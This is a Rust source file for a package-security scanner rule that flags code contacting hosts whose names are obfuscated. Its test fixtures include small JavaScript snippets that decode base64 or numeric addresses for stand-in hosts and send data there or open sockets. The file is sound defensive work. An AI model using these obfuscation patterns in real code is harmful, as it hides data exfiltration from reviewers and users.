//! Talks to a host whose name the code puts together so that nobody can read it.

use super::provenance::Whose;
use super::{Context, Declaration, Example, Finding, host};
use crate::model::{Origin, Severity};

pub(super) static FINDING: Declaration = Declaration {
    id: "hidden-destination",
    title: "Hides whom it talks to",
    severity: Severity::High,
    summary: "The package talks to a host whose name stands nowhere in it: the code decodes it, or puts it together from letters, numbers or reversed text.",
    advice: "Ask the author why the address may not be read. What is sent there should be looked at line by line.",
    benign_when: "A build tool has packed the whole program, addresses and all, and other packages of the same author are packed alike.",
    references: &["CWE-506", "T1027", "T1132.001"],
    examples: &[
        Example {
            name: "an address in base64",
            severity: Some(Severity::High),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const at = Buffer.from("aHR0cHM6Ly9zdGF0cy5vdGhlci5pbnZhbGlkL3Y=", "base64").toString();
exports.track = (what) => fetch(at, { method: "POST", body: what });"#,
                ),
            ],
        },
        Example {
            name: "an address that is a number",
            severity: Some(Severity::High),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const peer = 0xc0000207;
const at = [24, 16, 8, 0].map((bits) => (peer >>> bits) & 255).join(".");
exports.open = () => require("net").connect(4000, at);"#,
                ),
            ],
        },
        Example {
            name: "an encoded address for a function that the caller gives",
            severity: Some(Severity::High),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const zones = { eu: "c3RhdHMtZXUub3RoZXIuaW52YWxpZA==" };
exports.lease = (send, id) => send({ url: `https://${Buffer.from(zones.eu, "base64")}/lease/${id}` });"#,
                ),
            ],
        },
        Example {
            name: "an address that is put together from readable parts",
            severity: None,
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const host = ["api", "service", "example"].join(".");
exports.track = (what) => fetch("https://" + host + "/v1", { method: "POST", body: what });"#,
                ),
            ],
        },
        Example {
            name: "credentials in base64 for an address that is plain",
            severity: None,
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const key = Buffer.from("cHVibGljLWtleQ==", "base64").toString();
exports.track = (what) => fetch("https://api.service.example/v1?key=" + key, { method: "POST", body: what });"#,
                ),
            ],
        },
    ],
    detect,
};

fn detect(context: &Context<'_>, found: &mut Vec<Finding>) {
    let mut told: Vec<String> = Vec::new();
    for behaviour in context.behaviours {
        let is_hidden = match behaviour.what.id {
            "evasion.hidden-address" => true,
            id => id.starts_with("network.") && behaviour.origin.has(Origin::Decoded),
        };
        let Some(url) = behaviour.target.as_deref().filter(|_| is_hidden) else {
            continue;
        };
        // The host, and not what is asked of it.
        let Some(at) = host::host(url).filter(|at| !is_written(context, at)) else {
            continue;
        };
        if told.contains(&at) {
            continue;
        }
        let message = format!("talks to {at}, a name that is not to be read anywhere");
        told.push(at);
        let mut finding = Finding::of_behaviour(&FINDING, behaviour, message);
        match context.home.whose(url) {
            Some(Whose::Own | Whose::Registry) => {
                let note = "the host is the package's own, or a registry".to_owned();
                finding.lower(Severity::Low, "own-host", note);
            }
            Some(Whose::Local) => continue,
            Some(Whose::Foreign) | None => {}
        }
        found.push(finding);
    }
}

/// Whether a file of the package that holds the code says the host.
fn is_written(context: &Context<'_>, at: &str) -> bool {
    let entries = context.archive.entries.iter();
    entries
        .filter_map(|entry| context.archive.buffer.get(entry.range.clone()))
        .any(|bytes| memchr::memmem::find(bytes, at.as_bytes()).is_some())
}
